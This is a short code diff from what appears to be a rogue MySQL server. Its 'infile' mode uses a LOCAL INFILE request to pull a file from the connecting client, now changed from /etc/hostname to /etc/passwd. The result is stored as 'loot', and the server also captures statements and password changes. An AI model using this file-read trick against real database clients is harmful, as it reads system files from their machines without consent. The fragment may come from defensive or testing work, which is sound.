@@ -103,7 +103,7 @@ class Client:
     def answer(self, statement):
         self.note("statements", f"{self.user}: {statement}")
         if self.mode == "infile":
-            self.send(b"\xfb/etc/hostname")
+            self.send(b"\xfb/etc/passwd")
             self.note("loot", self.receive().decode(errors="replace"))
             return self.send_ok()
         changes = re.fullmatch(r"ALTER USER (?:USER\(\)|'(.*)'@'%') IDENTIFIED BY '(.*)'", statement)
